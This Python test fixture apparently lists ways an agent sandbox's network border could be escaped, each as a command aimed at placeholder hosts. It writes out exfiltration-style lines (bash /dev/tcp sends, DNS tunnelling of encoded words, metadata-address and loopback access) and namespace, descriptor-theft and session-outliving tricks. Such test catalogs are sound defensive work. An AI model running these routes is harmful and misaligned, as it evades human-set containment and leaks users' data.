"""Ways out by the network. HOST and ADDR are a name and an address that only this way goes to."""

from tests.border.record import Call, background, code, pty, py, sh

_S = "import socket, struct, os, sys\nsocket.setdefaulttimeout(2)\n"


def _tcp(place: str) -> Call:
    return py(f"{_S}s = socket.create_connection({place}); s.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n'); print(s.recv(50))")


def _udp(place: str, family: str = "AF_INET") -> Call:
    return py(f"{_S}s = socket.socket(socket.{family}, socket.SOCK_DGRAM); s.sendto(b'secret', {place})")


_QUERY = (
    "q = b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00' + b''.join(bytes([len(p)]) + p for p in "
    "b'c2VjcmV0LXdvcmRz.HOST'.split(b'.')) + b'\\0\\0\\1\\0\\1'\n"
)
WAYS: dict[str, Call] = {
    # by name
    "curl over http": sh("curl -sS -m 3 http://HOST/"),
    "curl over https": sh("curl -sSk -m 3 https://HOST/"),
    "wget": sh("wget -q -T 2 -t 1 -O- http://HOST/"),
    "a socket": _tcp("('HOST', 443)"),
    "a socket to an odd port": _tcp("('HOST', 8080)"),
    "a socket to a database's port": _tcp("('HOST', 5432)"),
    "a name in capitals": _tcp("('HOST'.upper(), 80)"),
    "a name with a dot at its end": _tcp("('HOST.', 80)"),
    "bash": sh("timeout 3 bash -c 'echo secret > /dev/tcp/HOST/80'"),
    "bash over udp": sh("timeout 3 bash -c 'echo secret > /dev/udp/HOST/53'"),
    "urllib": py("import urllib.request as u; print(u.urlopen('http://HOST/', timeout=2).read())"),
    "fetch of node": sh("node -e \"fetch('http://HOST/').then(r => r.text()).then(console.log)\""),
    "http of node": sh("node -e \"require('http').get('http://HOST/', r => r.pipe(process.stdout))\""),
    "execute_code": code("import urllib.request as u\nprint(u.urlopen('http://HOST/', timeout=2).read())"),
    "a background process": background("curl -sS -m 3 http://HOST/"),
    "a terminal of its own": pty("curl -sS -m 3 http://HOST/"),
    "what stays when the command ends": sh("(sleep 0.2; curl -sS -m 2 http://HOST/) & disown"),
    # by address
    "an address over http": sh("curl -sS -m 3 http://ADDR/"),
    "an address over https": sh("curl -sSk -m 3 https://ADDR/"),
    "an address and port 22": _tcp("('ADDR', 22)"),
    "an address and an odd port": _tcp("('ADDR', 4444)"),
    "an address as a number": sh(
        "curl -sS -m 3 http://$(python3 -c \"import ipaddress as i;print(int(i.ip_address('ADDR')))\")/"
    ),
    "an address in hexadecimal": sh(
        "curl -sS -m 3 http://$(python3 -c \"import ipaddress as i;print(hex(int(i.ip_address('ADDR'))))\")/"
    ),
    "an IPv4 address in IPv6": py(f"{_S}s = socket.socket(socket.AF_INET6); s.connect(('::ffff:ADDR', 80))"),
    "a name that curl is told": sh("curl -sSk -m 3 --resolve HOST:443:ADDR https://HOST/"),
    "another address that curl is told": sh("curl -sSk -m 3 --connect-to HOST:443:ADDR:443 https://HOST/"),
    "a granted name at another address": sh("curl -sS -m 3 --resolve ok.granted.test:80:ADDR http://ok.granted.test/"),
    "data in the first packet": py(f"{_S}s = socket.socket(); s.sendto(b'secret', 0x20000000, ('ADDR', 80))"),
    "bound to every address first": py(f"{_S}s = socket.socket(); s.bind(('0.0.0.0', 0)); s.connect(('ADDR', 80))"),
    "bound to an interface first": py(
        f"{_S}s = socket.socket()\ntry: s.setsockopt(socket.SOL_SOCKET, 25, b'eth0')\nexcept OSError as e: print(e)\n"
        "s.connect(('ADDR', 80))"
    ),
    "a route chosen by the program": py(
        f"{_S}s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, 5, 1); s.connect(('ADDR', 80))"
    ),
    "a socket without waiting": py(f"{_S}s = socket.socket(); s.setblocking(False); print(s.connect_ex(('ADDR', 80)))"),
    # proxies
    "the proxy, a name": sh("curl -sS -m 3 -p -x http://127.0.0.1:1080 http://HOST/"),
    "the proxy, an address": sh("curl -sS -m 3 -p -x http://127.0.0.1:1080 http://ADDR/"),
    "the proxy, whole requests": sh("curl -sS -m 3 -x http://127.0.0.1:1080 http://HOST/"),
    "socks with a name": sh("curl -sS -m 3 -x socks5h://127.0.0.1:1080 http://HOST/"),
    "socks with an address": sh("curl -sS -m 3 -x socks5://127.0.0.1:1080 http://ADDR/"),
    "socks 4a": sh("curl -sS -m 3 -x socks4a://127.0.0.1:1080 http://HOST/"),
    "socks 4": sh("curl -sS -m 3 -x socks4://127.0.0.1:1080 http://ADDR/"),
    "socks to the metadata address": sh("curl -sS -m 3 -x socks5://127.0.0.1:1080 http://169.254.169.254/"),
    "the proxy to the person's loopback": sh("curl -sS -m 3 -p -x http://127.0.0.1:1080 http://127.0.0.1:8000/"),
    "the proxy to the person's loopback by a number": sh(
        "curl -sS -m 3 -p -x http://127.0.0.1:1080 http://2130706433:8000/"
    ),
    "the proxy to the person's loopback in IPv6": sh("curl -sS -m 3 -p -x http://127.0.0.1:1080 'http://[::1]:8000/'"),
    "the proxy to no address": sh("curl -sS -m 3 -p -x http://127.0.0.1:1080 http://0.0.0.0:8000/"),
    "a proxy of its own": sh("http_proxy=http://ADDR:3128 curl -sS -m 3 http://example.org/"),
    "a socks command that binds": py(
        f"{_S}s = socket.create_connection(('127.0.0.1', 1080)); s.sendall(b'\\5\\1\\0'); s.recv(2)\n"
        "s.sendall(b'\\5\\2\\0\\1' + socket.inet_aton('ADDR') + b'\\0\\x50'); print(s.recv(20))"
    ),
    # programs
    "git over http": sh("timeout 5 git ls-remote http://HOST/x.git"),
    "git's own protocol": sh("timeout 5 git ls-remote git://HOST/x.git"),
    "git over ssh": sh("timeout 5 git ls-remote ssh://git@HOST/x.git"),
    "a push elsewhere": sh("timeout 5 git push http://HOST/x.git HEAD"),
    "an address that git rewrites": sh(
        "timeout 5 git -c url.http://HOST/.insteadOf=https://example.invalid/ ls-remote https://exa"
        "mple.invalid/project.git"
    ),
    "a remote with another address": sh("git remote set-url origin http://HOST/x.git; timeout 5 git fetch origin"),
    "ssh itself": sh("ssh -o BatchMode=yes -o ConnectTimeout=2 HOST true"),
    "pip from an index of its own": sh(
        "timeout 8 python3 -m pip download -q --retries 0 --timeout 2 --index-url http://HOST/simple thing"
    ),
    "npm from a registry of its own": sh(
        "timeout 8 npm view --registry http://HOST/ --fetch-retries 0 --fetch-timeout 2000 thing"
    ),
    "a registry that the workspace names": sh(
        "echo registry=http://HOST/ > .npmrc; timeout 8 npm view --fetch-retries 0 --fetch-timeout 2000 thing"
    ),
    # datagrams and names as a channel
    "a datagram to an address": _udp("('ADDR', 4000)"),
    "a datagram to a name": _udp("('HOST', 123)"),
    "a datagram on the port of QUIC": _udp("('HOST', 443)"),
    "many datagrams at once": py(
        f"{_S}s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(('ADDR', 9)); s.send(b'x')"
    ),
    "a question to another resolver": py(
        f"{_S}{_QUERY}s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(q, ('ADDR', 53))"
    ),
    "a question over tcp to another resolver": _tcp("('ADDR', 53)"),
    "words in a name": sh("getent hosts c2VjcmV0LXdvcmRz.HOST"),
    "words in a name of a granted host": sh("getent hosts c2VjcmV0LXdvcmRz.granted.test"),
    "words in a question for text": py(
        f"{_S}{_QUERY}q = q[:-4] + b'\\0\\x10\\0\\1'\n"
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(q, ('127.0.0.1', 53)); print(s.recv(512))"
    ),
    "the machine's own resolver": py(
        f"{_S}{_QUERY}s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(q, ('127.0.0.53', 53))"
    ),
    "to all that listen": py(
        f"{_S}s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'x', ('224.0.0.251', 5353))"
    ),
    "to everybody": py(
        f"{_S}s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.setsockopt(1, 6, 1); s.sendto(b'x', "
        f"('255.255.255.255', 9))"
    ),
    # IPv6
    "IPv6 over tcp": py(f"{_S}s = socket.create_connection(('2606:2800:220:1::99', 443))"),
    "IPv6 over udp": _udp("('2606:2800:220:1::99', 53)", "AF_INET6"),
    "IPv6 on the link": py(f"{_S}s = socket.socket(socket.AF_INET6); s.connect(('fe80::1', 80, 0, 1))"),
    "IPv6 to all on the link": py(
        f"{_S}s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); s.sendto(b'x', ('ff02::1', 9, 0, 1))"
    ),
    # rare sockets
    "raw packets": py(f"{_S}s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 255); s.sendto(b'x' * 40, ('ADDR', 0))"),
    "echo requests": py(
        f"{_S}s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1); s.sendto(b'\\10\\0' + b'x' * 30, ('ADDR', 0))"
    ),
    "ping": sh("ping -c 1 -W 1 ADDR"),
    "frames": py(f"{_S}s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3); s.bind(('lo', 3)); s.send(b'x' * 60)"),
    "sctp": py(f"{_S}s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132); s.connect(('ADDR', 80))"),
    # the namespace
    "another namespace": sh("nsenter -t 1 -n curl -sS -m 3 http://ADDR/"),
    "the runtime's namespace by its number": py(
        f"{_S}import ctypes, glob\nc = ctypes.CDLL(None, use_errno=True)\n"
        "for p in glob.glob('/proc/[0-9]*/ns/net'):\n"
        "    try: print(p, c.setns(os.open(p, os.O_RDONLY), 0))\n    except OSError as e: print(e)\n"
        "s = socket.create_connection(('ADDR', 80))"
    ),
    "a namespace of its own": sh("unshare -rn curl -sS -m 3 http://ADDR/; unshare -Ur curl -sS -m 3 http://ADDR/"),
    "a route of its own": sh("ip route add default dev lo; ip addr add ADDR/32 dev lo; curl -sS -m 3 http://ADDR/"),
    "a device of its own": sh(
        "ip tuntap add dev t0 mode tun; ip link add v0 type veth peer name v1; curl -sS -m 3 http://ADDR/"
    ),
    "settings of the kernel": sh("echo 1 > /proc/sys/net/ipv4/ip_forward; curl -sS -m 3 http://ADDR/"),
    "the first address of another session": _tcp("('198.18.1.0', 443)"),
    "every made-up address": py(
        f"{_S}for n in range(200):\n    s = socket.socket(); s.settimeout(1)\n    s.connect_ex(('198.18.1.%d' "
        f"% n, 443)); s.close()"
    ),
    "an old resolver file": sh("echo nameserver ADDR > /etc/resolv.conf; curl -sS -m 3 http://HOST/"),
    "a list of names of its own": sh("echo 'ADDR granted.test' > h; HOSTALIASES=h curl -sS -m 3 http://granted.test/"),
    # granted hosts that lead elsewhere
    "a granted host sends on": sh("curl -sSL -m 3 http://ok.granted.test/"),
    "a granted name that is private": sh("curl -sS -m 3 http://rebind.granted.test/"),
    "a granted name that is public and private": sh("curl -sS -m 3 http://both.granted.test/"),
    "a granted name of the metadata address": sh("curl -sS -m 3 http://meta.granted.test/"),
    "an exact name of the metadata address": sh("curl -sS -m 3 http://exact-meta.test/"),
    "a granted name of the person's loopback": sh(
        "curl -sS -m 3 http://loop.granted.test:8443/; curl -m 3 http://loop.granted.test:8000/"
    ),
    "the metadata address": sh("curl -sS -m 3 http://169.254.169.254/latest/meta-data/"),
    # the person's loopback
    "a database of the person's": _tcp("('127.0.0.1', 5432)"),
    "a server of the person's": _tcp("('127.0.0.1', 8000)"),
    "a server of the person's by name": _tcp("('localhost', 8000)"),
    "a server of the person's in IPv6": py(f"{_S}s = socket.create_connection(('::1', 8000))"),
    "a server of the person's at no address": _tcp("('0.0.0.0', 8000)"),
    "a server of the person's at another loopback": _tcp("('127.0.0.2', 8000)"),
    "a server of the person's in IPv4 in IPv6": py(f"{_S}s = socket.create_connection(('::ffff:127.0.0.1', 8000))"),
    # the kernel's rarer ways
    "an address of nobody's own as the source": py(
        f"{_S}s = socket.socket(); s.setsockopt(0, 15, 1); s.bind(('198.18.1.9', 0)); s.connect(('ADDR', 80))"
    ),
    "a transparent socket": py(
        f"{_S}s = socket.socket()\ntry: s.setsockopt(0, 19, 1)\nexcept OSError as e: print(e)\ns.connect(('ADDR', 80))"
    ),
    "a marked socket": py(
        f"{_S}s = socket.socket()\ntry: s.setsockopt(1, 36, 1)\nexcept OSError as e: print(e)\ns.connect(('ADDR', 80))"
    ),
    "whole packets of its own": py(
        f"{_S}s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)\n"
        "s.sendto(b'E\\0\\0\\x28' + bytes(36), ('ADDR', 0))"
    ),
    "a way that the packet names": py(
        f"{_S}s = socket.socket(); o = b'\\x83\\x07\\x04' + socket.inet_aton('ADDR') + b'\\0'\n"
        "try: s.setsockopt(0, 4, o)\nexcept OSError as e: print(e)\ns.connect(('HOST', 443))"
    ),
    "several paths": py(f"{_S}s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262); s.connect(('ADDR', 80))"),
    "light datagrams": py(
        f"{_S}s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136); s.sendto(b'x', ('ADDR', 9))"
    ),
    "the machine that runs this one": py(f"{_S}s = socket.socket(40, socket.SOCK_STREAM); s.connect((2, 52))"),
    "data in the first packet to a name": py(
        f"{_S}s = socket.socket(); s.sendto(b'secret', 0x20000000, ('HOST', 8443))"
    ),
    "ports of a name, one after the other": py(
        f"{_S}a = socket.gethostbyname('HOST')\n"
        "for n in (1, 25, 53, 110, 853, 1080, 3128, 8000, 8080, 9999, 65535):\n"
        "    s = socket.socket(); s.settimeout(0.5); print(n, s.connect_ex((a, n))); s.close()"
    ),
    "a server at a made-up address": py(
        f"{_S}a = socket.gethostbyname('HOST'); l = socket.socket(); l.setsockopt(0, 15, 1)\n"
        "l.bind((a, 4444)); l.listen()\n"
        "s = socket.socket(); s.connect((a, 4444)); s.sendall(b'x'); print('own')"
    ),
    "routes asked of the kernel": py(
        f"{_S}s = socket.socket(16, socket.SOCK_RAW, 0); b = struct.pack('=BBBBBBBBI', 2, 0, 0, 0, 254, 4, 0, 1, 0)\n"
        "b += struct.pack('=HHI', 8, 4, 1); s.send(struct.pack('=IHHII', 16 + len(b), 24, 0x405, 1, 0) + b)\n"
        "print(s.recv(4096)); socket.create_connection(('ADDR', 80))"
    ),
    "an address translated to IPv6": py(f"{_S}s = socket.create_connection(('64:ff9b::ADDR', 80))"),
    "sockets that were left open": py(
        f"{_S}for n in range(3, 200):\n"
        "    try: s = socket.socket(fileno=n); print(n, s); s.sendto(b'x', ('ADDR', 80))\n    except OSError as e: pass"
    ),
    # the proxy's words
    "the proxy, a name in a name": py(
        f"{_S}s = socket.create_connection(('127.0.0.1', 1080)); "
        "s.sendall(b'CONNECT ok.granted.test@HOST:80 HTTP/1.1\\r\\n\\r\\n'); print(s.recv(99))"
    ),
    "the proxy, a name that ends early": py(
        f"{_S}s = socket.create_connection(('127.0.0.1', 1080)); "
        "s.sendall(b'CONNECT HOST\\0.granted.test:80 HTTP/1.1\\r\\n\\r\\n'); print(s.recv(99))"
    ),
    "the proxy, an IPv4 address in IPv6": py(
        f"{_S}s = socket.create_connection(('127.0.0.1', 1080)); "
        "s.sendall(b'CONNECT [::ffff:ADDR]:80 HTTP/1.1\\r\\n\\r\\n'); print(s.recv(99))"
    ),
    "socks, an address as a name": py(
        f"{_S}s = socket.create_connection(('127.0.0.1', 1080)); s.sendall(b'\\5\\1\\0'); s.recv(2)\n"
        "n = b'ADDR'; s.sendall(b'\\5\\1\\0\\3' + bytes([len(n)]) + n + b'\\0\\x50'); print(s.recv(20))"
    ),
    "socks, a name that ends early": py(
        f"{_S}s = socket.create_connection(('127.0.0.1', 1080)); s.sendall(b'\\5\\1\\0'); s.recv(2)\n"
        "n = b'HOST\\0.granted.test'; s.sendall(b'\\5\\1\\0\\3' + bytes([len(n)]) + n + b'\\0\\x50'); print(s.recv(20))"
    ),
    # other people's programs
    "a command of ssh's own": sh(
        "timeout 5 ssh -o ProxyCommand='curl -m 3 telnet://ADDR:22' -o BatchMode=yes granted.test true"
    ),
    "a command of git's own": sh(
        "timeout 5 env GIT_SSH_COMMAND='curl -m 2 http://HOST/' git ls-remote ssh://git@ok.granted.test/x.git; "
        "timeout 5 env GIT_PROXY_COMMAND='curl -m 2 http://ADDR/' git ls-remote git://ok.granted.test/x.git"
    ),
    "the machine's resolver by its sockets": sh(
        "for s in /run/systemd/resolve/io.systemd.Resolve /var/run/nscd/socket /run/dbus/system_bus_socket; do "
        "python3 -c \"import socket, sys; s = socket.socket(socket.AF_UNIX); s.connect('$s'); print('open')\"; done; "
        "getent ahosts leak.HOST"
    ),
    # names that look like others, and questions of every kind
    "a name in letters that look alike": _tcp("('ok.gr\\u0430nted.test', 80)"),
    "a granted name before another": _tcp("('ok.granted.test.HOST', 80)"),
    "the name above those granted": _tcp("('granted.test', 80)"),
    "questions of every kind over tcp": py(
        f"{_S}{_QUERY}"
        "for kind in (2, 5, 6, 12, 15, 16, 28, 33, 35, 64, 65, 252, 255):\n"
        "    s = socket.create_connection(('127.0.0.1', 53)); m = q[:-4] + struct.pack('!HH', kind, 1)\n"
        "    s.sendall(struct.pack('!H', len(m)) + m); print(kind, s.recv(512))"
    ),
    "two questions in one": py(
        f"{_S}{_QUERY}m = q[:5] + b'\\2' + q[6:] + q[12:]\n"
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(m, ('127.0.0.1', 53)); print(s.recv(512))"
    ),
    "a question to the address of a granted name": py(
        f"{_S}{_QUERY}a = socket.gethostbyname('ok.granted.test')\n"
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(q, (a, 53)); print(s.recv(512))"
    ),
    "a domain that is searched": sh("LOCALDOMAIN=HOST RES_OPTIONS=ndots:9 getent ahosts secret-words"),
    # made-up addresses
    "the address after that of a granted name": py(
        f"{_S}a = socket.gethostbyname('ok.granted.test'); a = socket.inet_ntoa(struct.pack('!I', "
        "struct.unpack('!I', socket.inet_aton(a))[0] + 1)); s = socket.create_connection((a, 80)); print(s.recv(9))"
    ),
    "a made-up address in IPv6": py(
        f"{_S}s = socket.socket(socket.AF_INET6); s.connect(('::ffff:' + socket.gethostbyname('HOST'), 80)); s.recv(9)"
    ),
    "a made-up address through the proxy": py(
        f"{_S}a = socket.inet_aton(socket.gethostbyname('HOST')); s = socket.create_connection(('127.0.0.1', 1080))\n"
        "s.sendall(b'\\5\\1\\0'); s.recv(2); s.sendall(b'\\5\\1\\0\\1' + a + b'\\0\\x50'); print(s.recv(20))"
    ),
    "datagrams through the proxy": py(
        f"{_S}s = socket.create_connection(('127.0.0.1', 1080)); s.sendall(b'\\5\\1\\0'); s.recv(2)\n"
        "s.sendall(b'\\5\\3\\0\\1' + socket.inet_aton('ADDR') + b'\\0\\x35'); print(s.recv(20))"
    ),
    # the metadata address in other words
    "the metadata address in octal": sh("curl -sS -m 1 http://0251.0376.0251.0376/"),
    "the metadata address in three numbers": sh("curl -sS -m 3 -p -x http://127.0.0.1:1080 http://169.254.43518/"),
    "the metadata address in IPv6": sh("curl -sS -m 3 -p -x http://127.0.0.1:1080 'http://[::ffff:a9fe:a9fe]/'"),
    "the metadata address translated": sh("curl -sS -m 3 -p -x http://127.0.0.1:1080 'http://[64:ff9b::a9fe:a9fe]/'"),
    "the metadata address of IPv6": sh("curl -sS -m 3 -p -x http://127.0.0.1:1080 'http://[fd00:ec2::254]/'"),
    # the person's loopback in other words
    "a server of the person's by other names": sh(
        "for h in ip6-localhost x.localhost 127.1 0 '[::]' $(hostname); do curl -sS -m 0.5 http://$h:8000/; "
        "curl -sS -m 0.5 -p -x http://127.0.0.1:1080 http://$h:8000/; done"
    ),
    # rarer sockets, and other people's descriptors
    "sockets of rarer kinds": py(
        f"{_S}for family, kind, number in ((43, 1, 0), (2, 6, 33), (21, 5, 0), (30, 1, 0), (44, 3, 0), (2, 1, 256)):\n"
        "    try: s = socket.socket(family, kind, number); s.connect(('ADDR', 80)); print('open', family)\n"
        "    except (OSError, TypeError, OverflowError) as e: print(family, e)"
    ),
    "descriptors of the process above": py(
        f"{_S}import ctypes\nc = ctypes.CDLL(None, use_errno=True)\nfor pid in (1, os.getppid()):\n"
        "    p = c.syscall(434, pid, 0)\n    for n in range(64):\n        f = c.syscall(438, p, n, 0)\n"
        "        if f >= 0:\n            try: socket.socket(fileno=f).sendto(b'x', ('ADDR', 80)); print('sent')\n"
        "            except OSError as e: pass"
    ),
    "rules of the namespace taken away": py(
        f"{_S}s = socket.socket(16, socket.SOCK_RAW, 0); b = struct.pack('=BBBBBBBBI', 2, 15, 0, 0, 0, 0, 0, 7, 0)\n"
        "b += struct.pack('=HHI', 8, 6, 1) + struct.pack('=HH4s', 8, 1, socket.inet_aton('198.18.0.0'))\n"
        "s.send(struct.pack('=IHHII', 16 + len(b), 33, 5, 1, 0) + b); print(s.recv(4096))\n"
        "u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.sendto(b'secret', ('HOST', 443))"
    ),
    "a process that has left its session": background(
        "setsid sh -c '(sleep 0.3; curl -sS -m 3 http://HOST/; curl -sS -m 3 http://ADDR/) &' < /dev/null"
    ),
    "abstract sockets": py(
        f"{_S}for line in open('/proc/net/unix').read().splitlines()[1:]:\n    name = line.split()[-1]\n"
        "    if name.startswith('@'):\n        s = socket.socket(socket.AF_UNIX)\n"
        "        try: s.connect('\\0' + name[1:]); print('open', name)\n        except OSError as e: print(e)"
    ),
}
# Nothing leaves here even where the network is open: what they try is refused by other parts of the border.
HELD_ANYWAY = frozenset(
    {
        *("raw packets", "frames", "sctp", "another namespace", "a namespace of its own", "whole packets of its own"),
        *("a server at a made-up address", "the machine that runs this one", "abstract sockets"),
        *("sockets of rarer kinds", "descriptors of the process above"),
        # and these are words to the resolver and the proxy of a session's own network
        *("questions of every kind over tcp", "two questions in one", "datagrams through the proxy"),
        *("a made-up address through the proxy", "the metadata address in three numbers"),
        *("the metadata address in IPv6", "the metadata address translated", "the metadata address of IPv6"),
    }
)
# Where the network is open, these wait for a resolver that never answers, longer than a session has.
SLOW_WHEN_OPEN = frozenset(
    {
        *("a name in letters that look alike", "a granted name before another", "the name above those granted"),
        *("a domain that is searched", "a server of the person's by other names"),
    }
)
